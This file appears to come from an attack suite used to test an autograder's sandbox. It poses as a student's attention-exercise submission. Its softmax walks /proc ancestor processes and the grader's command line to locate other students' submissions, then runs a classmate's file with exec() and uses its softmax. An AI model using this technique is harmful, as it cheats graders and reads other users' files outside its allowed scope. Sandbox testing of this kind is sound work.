# ruff: noqa
"""ATTACK hunt_other_submissions (class: hunting: other students' code).

Intent: copy a classmate's working solution at grading time: find the other
submissions (the paths on the grader's command line, read from /proc/<ancestor>/cmdline
and resolved against /proc/<ancestor>/cwd, and the directory the class was unpacked to,
a well-known path), exec a classmate's 01_attention.py and use its softmax. (It skips
files of the attack suite, which all define ATTACK.) Without one, softmax returns zeros.

Expected: softmax 0, the rest full marks.
"""

import math
import os

import torch

ATTACK = "hunt_other_submissions"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox
SUBMISSIONS = "__SUBS__"


def _ancestors():
    """(pid, argv) of every ancestor process, nearest first."""
    chain, pid = [], os.getpid()
    for _ in range(32):
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                ppid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if ppid <= 1:
            break
        try:
            with open(f"/proc/{ppid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        chain.append((ppid, argv))
        pid = ppid
    return chain


def _is_grader(argv):
    """The grader's own processes (fork server, CLI), never the test runner above them."""
    return any(
        a == "autograder" or "autograder.sandbox.forkserver" in a or a.endswith("/bertlab") for a in argv
    )


def _candidates():
    dirs = []
    for pid, argv in _ancestors():
        if "grade" in argv:
            dirs += [os.path.join(f"/proc/{pid}/cwd", a) for a in argv if not a.startswith("-")]
    try:
        dirs += [os.path.join(SUBMISSIONS, d) for d in sorted(os.listdir(SUBMISSIONS))]
    except OSError:
        pass
    return dirs


def _steal():
    for d in _candidates():
        path = os.path.join(d, "01_attention.py")
        try:
            with open(path) as f:
                src = f.read()
        except OSError:
            continue
        if "ATTACK =" in src or "def softmax" not in src:
            continue
        ns = {"__name__": "classmate"}
        try:
            exec(compile(src, path, "exec"), ns)
        except BaseException:
            continue
        if callable(ns.get("softmax")):
            return ns["softmax"]
    return None


def softmax(x, dim=-1):
    stolen = _steal()
    return stolen(x, dim=dim) if stolen is not None else torch.zeros_like(x)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
